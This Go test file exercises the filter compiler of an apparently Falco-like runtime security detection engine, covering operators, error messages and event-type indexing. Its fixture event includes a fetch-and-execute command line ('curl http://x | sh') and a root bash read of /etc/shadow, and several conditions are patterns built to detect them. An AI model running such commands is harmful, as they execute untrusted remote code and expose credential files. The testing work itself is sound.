package rules

import (
	"errors"
	"net/netip"
	"strings"
	"testing"
)

func TestFilterOperators(t *testing.T) {
	ip := netip.MustParseAddr
	base := []any{
		"evt.type", "openat", "proc.name", "bash", "fd.name", "/etc/shadow", "fd.num", 3,
		"proc.pid", 1234, "user.uid", 0, "evt.rawres", -2, "evt.is_open_write", true,
		"fd.sip", ip("10.1.2.3"), "fd.cip", ip("192.168.0.7"), "fd.sport", 443, "fd.cport", 51000,
		"fd.lip", ip("192.168.0.7"), "fd.rip", ip("10.1.2.3"),
		"proc.cmdline", "bash -c 'curl http://x | sh'", "proc.args", "-c id",
		"proc.aname", []string{"sshd", "systemd"}, "proc.aname[1]", "sshd", "proc.aname[2]", "systemd",
		"fd.types", []string{"file", "ipv4"}, "evt.buffer", []byte("\xca\xfe\xba\xbe hello"),
		"evt.arg[flags]", "O_WRONLY|O_CREAT", "proc.pname", "sshd", "proc.cwd", "/etc/",
		"container.id", "host", "proc.env", "HOME=/root HTTP_PROXY=x", "fd.sip.name", "example.com",
		"proc.tty", 34816, "evt.res", "SUCCESS", "thread.cap_effective", "CAP_SYS_ADMIN CAP_NET_RAW",
		"evt.arg[data]", "aWQ=",
	}
	tests := []struct {
		name string
		cond string
		want bool
	}{
		{"eq", "proc.name = bash", true},
		{"eq double", "proc.name == bash", true},
		{"eq false", "proc.name = zsh", false},
		{"ne", "proc.name != zsh", true},
		{"ne false", "proc.name != bash", false},
		{"quoted", `proc.name = "bash"`, true},
		{"single quoted", `proc.name = 'bash'`, true},
		{"gt str", "proc.name > 1", true},
		{"le str", "proc.name <= 1", false},
		{"contains", "fd.name contains shad", true},
		{"icontains", "fd.name icontains SHAD", true},
		{"startswith", "fd.name startswith /etc/", true},
		{"endswith", "fd.name endswith dow", true},
		{"glob", "fd.name glob '/etc/*ad*'", true},
		{"glob class", "fd.name glob '/etc/[rs]hadow'", true},
		{"glob question", "fd.name glob /etc/?hadow", true},
		{"glob false", "fd.name glob '/usr/*'", false},
		{"iglob", "fd.name iglob '/ETC/*'", true},
		{"regex", "fd.name regex '/etc/s[a-z]+'", true},
		{"regex whole value", "fd.name regex 'etc'", false},
		{"in", "proc.name in (zsh, bash)", true},
		{"in false", "proc.name in (zsh, sh)", false},
		{"in many", "proc.name in (a, b, c, d, e, f, g, bash)", true},
		{"intersects scalar", "proc.name intersects (bash)", true},
		{"pmatch dir", "fd.name pmatch (/etc)", true},
		{"pmatch exact", "fd.name pmatch (/etc/shadow)", true},
		{"pmatch not prefix of component", "fd.name pmatch (/et)", false},
		{"pmatch glob component", "fd.name pmatch (/e*c)", true},
		{"exists", "fd.name exists", true},
		{"exists missing", "fd.filename exists", false},
		{"missing eq", "fd.filename = x", false},
		{"missing ne", "fd.filename != x", false},
		{"not missing", "not fd.filename = x", true},
		{"num eq", "fd.num = 3", true},
		{"num ne", "fd.num != 3", false},
		{"num lt", "fd.num < 4", true},
		{"num le", "fd.num <= 3", true},
		{"num gt", "fd.num > 3", false},
		{"num ge", "fd.num >= 0", true},
		{"num hex", "fd.num = 0x3", true},
		{"num in", "proc.pid in (1, 1234)", true},
		{"signed negative", "evt.rawres < 0", true},
		{"unsigned tty", "proc.tty != 0", true},
		{"bool true", "evt.is_open_write = true", true},
		{"bool false", "evt.is_open_write = false", false},
		{"bool ne", "evt.is_open_write != false", true},
		{"ip eq", "fd.sip = 10.1.2.3", true},
		{"ip ne", "fd.sip != 10.1.2.3", false},
		{"ip in", "fd.sip in (1.1.1.1, 10.1.2.3)", true},
		{"either ip", "fd.ip = 192.168.0.7", true},
		{"either ip ne both differ", "fd.ip != 8.8.8.8", true},
		{"either ip ne one equal", "fd.ip != 10.1.2.3", false},
		{"net", "fd.net = 10.0.0.0/8", true},
		{"net other end", "fd.net = 192.168.0.0/16", true},
		{"net no", "fd.net = 172.16.0.0/12", false},
		{"snet", "fd.snet = 10.0.0.0/8", true},
		{"cnet no", "fd.cnet = 10.0.0.0/8", false},
		{"rnet in", "fd.rnet in (172.16.0.0/12, 10.0.0.0/8)", true},
		{"either port", "fd.port = 443", true},
		{"sport", "fd.sport in (80, 443)", true},
		{"ancestors any", "proc.aname = systemd", true},
		{"ancestors in", "proc.aname in (init, systemd)", true},
		{"ancestors none", "proc.aname = cron", false},
		{"ancestor index", "proc.aname[2] = systemd", true},
		{"ancestor index wrong", "proc.aname[1] = systemd", false},
		{"set in all", "fd.types in (file, ipv4, pipe)", true},
		{"set in not all", "fd.types in (file)", false},
		{"set intersects", "fd.types intersects (ipv4)", true},
		{"bcontains", "evt.buffer bcontains cafebabe", true},
		{"bstartswith", "evt.buffer bstartswith CAFE", true},
		{"bcontains no", "evt.buffer bcontains deadbeef", false},
		{"buffer contains text", "evt.buffer contains hello", true},
		{"dotted arg", "evt.arg.flags contains O_CREAT", true},
		{"bracket arg", "evt.arg[flags] contains O_CREAT", true},
		{"and", "proc.name = bash and fd.num = 3", true},
		{"and false", "proc.name = bash and fd.num = 4", false},
		{"or", "proc.name = zsh or fd.num = 3", true},
		{"not", "not proc.name = zsh", true},
		{"not paren", "not (proc.name = zsh or fd.num = 4)", true},
		{"precedence", "proc.name = zsh and fd.num = 4 or fd.num = 3", true},
		{"precedence 2", "proc.name = zsh and (fd.num = 4 or fd.num = 3)", false},
		{"evt.type", "evt.type = openat", true},
		{"evt.type in", "evt.type in (open, openat)", true},
		{"evt.type ne", "evt.type != openat", false},
		{"tolower", "toupper(proc.name) = BASH", true},
		{"toupper", "tolower(toupper(proc.name)) = bash", true},
		{"basename", "basename(fd.name) = shadow", true},
		{"len", "len(proc.name) = 4", true},
		{"len list", "len(fd.types) = 2", true},
		{"b64", "b64(evt.arg[data]) = id", true},
		{"b64 bad", "b64(proc.cmdline) exists", false},
		{"val eq", "proc.pname = val(proc.pname)", true},
		{"val ne field", "proc.pname != val(proc.name)", true},
		{"val ne", "proc.name != val(proc.pname)", true},
		{"val startswith", "fd.name startswith val(proc.cwd)", true},
		{"val num", "fd.num < val(proc.pid)", true},
		{"mod anyof", "fd.name startswith anyof (/usr, /etc)", true},
		{"mod anyof many prefixes", "fd.name startswith anyof (/usr, /bin, /sbin, /lib, /var, /etc/sh)", true},
		{"mod anyof many prefixes none", "fd.name startswith anyof (/usr, /bin, /sbin, /lib, /var, /etc/x, /etc/shadowx)", false},
		{"mod anyof endswith", "fd.name endswith anyof (.conf, dow)", true},
		{"mod anyof contains", "fd.name contains anyof (xyz, had)", true},
		{"mod anyof icontains", "fd.name icontains anyof (XYZ, HAD)", true},
		{"mod anyof icontains none", "fd.name icontains anyof (XYZ, HAT)", false},
		{"merged prefixes", "fd.name startswith /usr or fd.name startswith /bin or fd.name startswith /sbin or fd.name startswith /lib or fd.name startswith /etc/", true},
		{"merged prefixes none", "fd.name startswith /usr or fd.name startswith /bin or fd.name startswith /sbin or fd.name startswith /lib or fd.name startswith /etc/x", false},
		{"mod oneof", "fd.name contains oneof (etc, sha)", false},
		{"mod oneof one", "fd.name contains oneof (etc, xyz)", true},
		{"mod allof", "fd.name contains allof (etc, sha)", true},
		{"mod eq anyof", "proc.name = anyof (zsh, bash)", true},
		{"mod ne allof", "proc.name != allof (zsh, sh)", true},
		{"escape in value", `proc.cmdline contains "'curl"`, true},
		{"contains space value", `proc.cmdline contains "| sh"`, true},
		{"empty string", `proc.name != ""`, true},
		{"cap contains", "thread.cap_effective contains CAP_SYS_ADMIN", true},
		{"env icontains", "proc.env icontains http_proxy", true},
		{"host container", "container.id != host", false},
		{"evt.num invariant holds", "evt.num > 0 or evt.num = 0", true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f, err := CompileFilter(tt.cond, nil, testOptions())
			if err != nil {
				t.Fatalf("CompileFilter(%q): %v", tt.cond, err)
			}
			if got := f.Match(mkEvent(t, base...)); got != tt.want {
				t.Errorf("%q = %v, want %v", tt.cond, got, tt.want)
			}
			if err := f.Err(); err != nil {
				t.Errorf("evaluation error: %v", err)
			}
		})
	}
}

func TestFilterErrors(t *testing.T) {
	tests := []struct {
		name, cond, want string
		is               error
	}{
		{"unknown field", "proc.nmae = bash", "nonexistent field proc.nmae (did you mean proc.name?)", ErrCompile},
		{"bad op for number", "fd.num contains 3", "'contains' operator not supported for numeric filters", ErrCompile},
		{"bad number", "fd.num = abc", "abc is not a valid number", ErrCompile},
		{"bad bool", "evt.is_open_write = yes", "unrecognized boolean value yes", ErrCompile},
		{"bad ip", "fd.sip = 1.2.3", "unrecognized IPv4 address 1.2.3", ErrCompile},
		{"bad net", "fd.net = 10.0.0.0/40", "unrecognized IP network 10.0.0.0/40", ErrCompile},
		{"bad regex", "fd.name regex '('", "invalid regex pattern", ErrCompile},
		{"perl class in regex", `fd.name regex '\\d+'`, "invalid regex pattern", ErrCompile},
		{"bad escape", `fd.name = '\d'`, "unsupported string escape sequence", ErrSyntax},
		{"transform ancestor", "tolower(proc.aname[1]) = x", "cannot be transformed", ErrCompile},
		{"bcontains on string", "fd.name bcontains 41", "'bcontains' operator not supported for string filters", ErrCompile},
		{"bad hex", "evt.buffer bcontains xyz", "hex strings only", ErrCompile},
		{"undefined macro", "proc.name = bash and my_macro", "undefined macro 'my_macro'", ErrCompile},
		{"unknown event type", "evt.type = opne", "unknown event type opne", ErrCompile},
		{"missing arg", "evt.arg = x", "requires an argument", ErrCompile},
		{"arg not allowed", "proc.name[1] = x", "takes no argument", ErrCompile},
		{"unknown param", "evt.arg.nope = x", `unknown event argument "nope"`, ErrCompile},
		{"set field op", "fd.types = file", "not supported for list filter", ErrCompile},
		{"val of aname", "proc.name = val(proc.aname)", "can't be used as a right-hand side field", ErrCompile},
		{"val type mismatch", "proc.name = val(fd.num)", "can't compare", ErrCompile},
		{"transformer type", "toupper(fd.num) = 1", "applies to string fields", ErrCompile},
		{"unsupported transformer", "join(',', (proc.name)) = x", "not supported by Peregrine", ErrCompile},
		{"syntax", "proc.name = = bash", "expected a string value", ErrSyntax},
		{"too long regex", "fd.name regex '" + strings.Repeat("a", MaxRegexLen+1) + "'", "more than the 4096 allowed", ErrCompile},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := CompileFilter(tt.cond, nil, testOptions())
			if err == nil {
				t.Fatalf("CompileFilter(%q) succeeded", tt.cond)
			}
			if !strings.Contains(err.Error(), tt.want) {
				t.Errorf("error %q does not contain %q", err, tt.want)
			}
			if !errors.Is(err, tt.is) {
				t.Errorf("error %v is not %v", err, tt.is)
			}
		})
	}
}

func TestFilterPosition(t *testing.T) {
	_, err := CompileFilter("proc.name = bash and\n  fd.nmae = x", nil, testOptions())
	var fe *FilterError
	if !errors.As(err, &fe) {
		t.Fatalf("want *FilterError, got %v", err)
	}
	if fe.Line != 2 || fe.Col != 3 {
		t.Errorf("error at %d:%d, want 2:3", fe.Line, fe.Col)
	}
	if !strings.Contains(fe.Snippet, "fd.nmae = x") || !strings.Contains(fe.Snippet, "^") {
		t.Errorf("snippet %q lacks the line and caret", fe.Snippet)
	}
}

func TestFilterEventTypes(t *testing.T) {
	tests := []struct {
		cond string
		want []string // nil: all
	}{
		{"proc.name = bash", nil},
		{"evt.type = open", []string{"open"}},
		{"evt.type in (open, openat) and fd.num > 0", []string{"open", "openat"}},
		{"evt.type = open or evt.type = close", []string{"close", "open"}},
		{"evt.type = open and evt.type = close", []string{}},
		{"not evt.type = open and evt.type in (open, close)", []string{"close"}},
		{"not (evt.type != open)", []string{"open"}},
		{"evt.type = open or proc.name = bash", nil},
		{"not proc.name = bash and evt.type = execve", []string{"execve"}},
		{"evt.num = 0", []string{}},
	}
	for _, tt := range tests {
		t.Run(tt.cond, func(t *testing.T) {
			f, err := CompileFilter(tt.cond, nil, testOptions())
			if err != nil {
				t.Fatal(err)
			}
			idx := f.EventTypes()
			if tt.want == nil {
				if idx != nil {
					t.Errorf("EventTypes = %d types, want all (nil)", len(idx))
				}
				return
			}
			var got []string
			for _, i := range idx {
				got = append(got, testTypes[i])
			}
			if strings.Join(got, ",") != strings.Join(tt.want, ",") {
				t.Errorf("EventTypes = %v, want %v", got, tt.want)
			}
		})
	}
}

// TestFilterMatchType checks that matching with the event's type (evt.type
// checks decided when compiling) agrees with matching without it.
func TestFilterMatchType(t *testing.T) {
	conds := []string{
		"evt.type in (open, openat) and fd.name startswith /etc",
		"(proc.name in (bash, sh, zsh, curl) and (fd.name contains passwd or proc.cmdline contains google)) or (evt.type=connect and fd.port=443)",
		"evt.type != close and proc.name = bash",
		"not evt.type in (open, close)",
		"proc.name = bash",
		"evt.type = execve and evt.type = open",
	}
	names := []string{"open", "openat", "close", "execve", "connect"}
	matched := 0
	for _, cond := range conds {
		t.Run(cond, func(t *testing.T) {
			f, err := CompileFilter(cond, nil, testOptions())
			if err != nil {
				t.Fatal(err)
			}
			for _, name := range names {
				for _, proc := range []string{"bash", "cat"} {
					ev := mkEvent(t, "evt.type", name, "proc.name", proc, "fd.name", "/etc/passwd", "fd.sport", 443,
						"proc.cmdline", proc+" -c true")
					want := f.Match(ev)
					if got := f.MatchType(typeIndex(t, name), ev); got != want {
						t.Errorf("%s by %s: MatchType = %v, Match = %v", name, proc, got, want)
					}
					if want {
						matched++
					}
				}
			}
		})
	}
	if matched < 10 {
		t.Errorf("only %d matches: the cases do not exercise the conditions", matched)
	}
}
